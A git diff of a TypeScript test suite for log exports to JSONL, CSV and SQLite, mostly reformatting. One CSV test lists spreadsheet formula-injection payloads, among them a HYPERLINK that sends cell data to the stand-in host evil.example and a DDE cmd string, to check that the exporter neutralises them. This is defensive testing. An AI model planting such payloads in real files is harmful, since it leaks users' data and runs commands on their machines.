@@ -48,7 +48,16 @@ beforeEach(async () => {
       }),
     ),
   );
-  store.enqueue(makeRecord({ correlationId: 'late', timestamp: '2026-03-02T00:00:00.000Z', status: null, success: false, latencyMs: null, ttfbMs: null }));
+  store.enqueue(
+    makeRecord({
+      correlationId: 'late',
+      timestamp: '2026-03-02T00:00:00.000Z',
+      status: null,
+      success: false,
+      latencyMs: null,
+      ttfbMs: null,
+    }),
+  );
   await store.flush();
 });
 afterEach(async () => {
@@ -75,7 +84,10 @@ describe('text exports', () => {
     expect(result.rows).toBe(7);
     expect(rows.map((r) => r.correlation_id)).toEqual([...NASTY.map((_, i) => `nasty-${i}`), 'late']);
     expect(rows.slice(0, 6).map((r) => r.model)).toEqual(NASTY);
-    expect(rows[1].exchange).toMatchObject({ response_body_truncated: true, request_headers: { 'x-multi': ['a', 'b'] } });
+    expect(rows[1].exchange).toMatchObject({
+      response_body_truncated: true,
+      request_headers: { 'x-multi': ['a', 'b'] },
+    });
     expect(result.bytes).toBe(Buffer.byteLength(readFileSync(result.path)));
   });
 
@@ -83,14 +95,18 @@ describe('text exports', () => {
     const columns = (table: string) => {
       const conn = new Database(db, { readonly: true });
       try {
-        return (conn.prepare(`SELECT name FROM pragma_table_info(?)`).all(table) as { name: string }[]).map((c) => c.name);
+        return (conn.prepare(`SELECT name FROM pragma_table_info(?)`).all(table) as { name: string }[]).map(
+          (c) => c.name,
+        );
       } finally {
         conn.close();
       }
     };
     const requestColumns = columns('requests');
     const exchangeColumns = columns('exchanges').filter((c) => c !== 'request_id');
-    const [record] = readFileSync((await exportLog(job('jsonl'))).path, 'utf8').split('\n').map((l) => l && JSON.parse(l));
+    const [record] = readFileSync((await exportLog(job('jsonl'))).path, 'utf8')
+      .split('\n')
+      .map((l) => l && JSON.parse(l));
     expect(Object.keys(record)).toEqual([...requestColumns, 'exchange']);
     expect(Object.keys(record.exchange)).toEqual(exchangeColumns);
     expect(record).toMatchObject({ correlation_id: 'nasty-0', streaming: false, success: true });
@@ -100,17 +116,40 @@ describe('text exports', () => {
 
   it('JSONL without bodies or headers, limited to a time range', async () => {
     const result = await exportLog(
-      job('jsonl', { includeBodies: false, includeHeaders: false, filter: { since: '2026-03-01T00:00:02.000Z', until: '2026-03-01T00:00:05.000Z' } }),
+      job('jsonl', {
+        includeBodies: false,
+        includeHeaders: false,
+        filter: { since: '2026-03-01T00:00:02.000Z', until: '2026-03-01T00:00:05.000Z' },
+      }),
     );
-    const rows = readFileSync(result.path, 'utf8').trim().split('\n').map((l) => JSON.parse(l));
+    const rows = readFileSync(result.path, 'utf8')
+      .trim()
+      .split('\n')
+      .map((l) => JSON.parse(l));
     expect(rows.map((r) => r.correlation_id)).toEqual(['nasty-2', 'nasty-3', 'nasty-4']);
     expect(rows.every((r) => !('exchange' in r))).toBe(true);
   });
 
   it('CSV neutralises cells a spreadsheet would run as a formula; numbers stay numbers', async () => {
-    const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\tlead tab', '\rlead cr'];
+    const formulas = [
+      '=HYPERLINK("http://evil.example/?"&A1,"click")',
+      "+1+cmd|' /C calc'!A0",
+      '-2+3',
+      '@SUM(A1:A9)',
+      '\tlead tab',
+      '\rlead cr',
+    ];
     for (const [i, text] of formulas.entries()) {
-      store.enqueue(makeRecord({ correlationId: text, timestamp: `2026-03-03T00:00:0${i}.000Z`, model: text, errorMessage: text, cost: 1.25, inputTokens: 7 }));
+      store.enqueue(
+        makeRecord({
+          correlationId: text,
+          timestamp: `2026-03-03T00:00:0${i}.000Z`,
+          model: text,
+          errorMessage: text,
+          cost: 1.25,
+          inputTokens: 7,
+        }),
+      );
     }
     await store.flush();
     const result = await exportLog(job('csv', { filter: { since: '2026-03-03T00:00:00.000Z' } }));
@@ -123,7 +162,11 @@ describe('text exports', () => {
 
   it('CSV round-trips commas, quotes, newlines and Unicode through csv-parse', async () => {
     const result = await exportLog(job('csv'));
-    const records = parse(readFileSync(result.path), { columns: true, bom: false, relax_column_count: false }) as Record<string, string>[];
+    const records = parse(readFileSync(result.path), {
+      columns: true,
+      bom: false,
+      relax_column_count: false,
+    }) as Record<string, string>[];
     expect(records).toHaveLength(7);
     expect(records.slice(0, 6).map((r) => r.model)).toEqual(NASTY);
     expect(records[1]!.error_message).toBe(NASTY[1]);
@@ -181,7 +224,14 @@ describe('text exports', () => {
     const progress: ExportProgress[] = [];
     const result = await exportLog(job('jsonl', { includeBodies: false, onProgress: (p) => progress.push(p) }));
     expect(result.rows).toBe(5007);
-    expect(new Set(readFileSync(result.path, 'utf8').trim().split('\n').map((l) => JSON.parse(l).id)).size).toBe(5007);
+    expect(
+      new Set(
+        readFileSync(result.path, 'utf8')
+          .trim()
+          .split('\n')
+          .map((l) => JSON.parse(l).id),
+      ).size,
+    ).toBe(5007);
     // Rows written of the count taken when the export began, one report per page (2 000 rows).
     expect(progress.map((p) => p.done)).toEqual([0, 2000, 4000, 5007]);
     expect(progress.every((p) => p.phase === 'writing' && p.total === 5007)).toBe(true);
@@ -200,7 +250,9 @@ describe('text exports', () => {
   it('a folder that refuses writes (even to root) fails with permission_denied and leaves no partial file', async () => {
     // sysfs refuses file creation for every user; a real read-only folder, not a mock.
     for (const format of ['jsonl', 'sqlite'] as const) {
-      const error = await exportLog(job(format, { destination: `/sys/inspector-export.${format}` })).catch((e: unknown) => e);
+      const error = await exportLog(job(format, { destination: `/sys/inspector-export.${format}` })).catch(
+        (e: unknown) => e,
+      );
       expect(isExportError(error) && error.code).toBe('permission_denied');
       expect((error as Error).message).toContain('/sys/inspector-export');
     }
